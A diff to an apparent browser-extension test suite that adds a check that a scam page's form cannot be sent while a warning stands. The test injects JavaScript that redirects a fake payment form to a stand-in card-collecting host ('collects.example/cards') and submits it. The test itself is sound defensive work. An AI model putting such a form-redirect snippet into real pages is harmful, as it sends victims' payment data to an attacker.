@@ -3,7 +3,7 @@
 
 use std::time::Duration;
 
-use anyhow::{Result, ensure};
+use anyhow::{Context, Result, ensure};
 use ringfence_browser_tests::fixture::Fixture;
 use ringfence_browser_tests::server::Page;
 use ringfence_browser_tests::shipped::content_scripts;
@@ -163,6 +163,33 @@ pub async fn page_is_calm(stage: &Stage) -> Result<()> {
         ensure!(heard.contains(event), "the page hears only {heard:?}");
     }
     Ok(())
+}
+
+/// A script sends the form, which no `submit` event tells of: not while a danger
+/// stands.
+pub async fn form_is_not_sent(stage: &Stage) -> Result<()> {
+    let fixture = Fixture::load("scam/fake-payment")?;
+    stage.show(&fixture.url, fixture.page()).await?;
+    let url = "https://collects.example/cards";
+    stage.server.put(url, Page::html("<!doctype html>Thank you"));
+    let is_sent = || stage.server.asked().iter().any(|asked| asked.starts_with(url));
+    let submit = |method: &str| {
+        format!(
+            "const [form] = document.forms;
+            form.action = '{url}'; form.method = '{method}'; form.submit()"
+        )
+    };
+    stage.warning().await?;
+    for method in ["post", "get"] {
+        ask(stage, &submit(method)).await?;
+        tokio::time::sleep(Duration::from_secs(1)).await;
+        ensure!(!is_sent(), "sent by {method}");
+        stage.warning().await.context(method)?;
+    }
+    stage.pass().await?;
+    ask(stage, &submit("post")).await?;
+    let sent = stage.until("the form", APPEARS, async || Ok(is_sent().then_some(())));
+    sent.await
 }
 
 /// A device that slept is no page that fights: the warning stands as before.
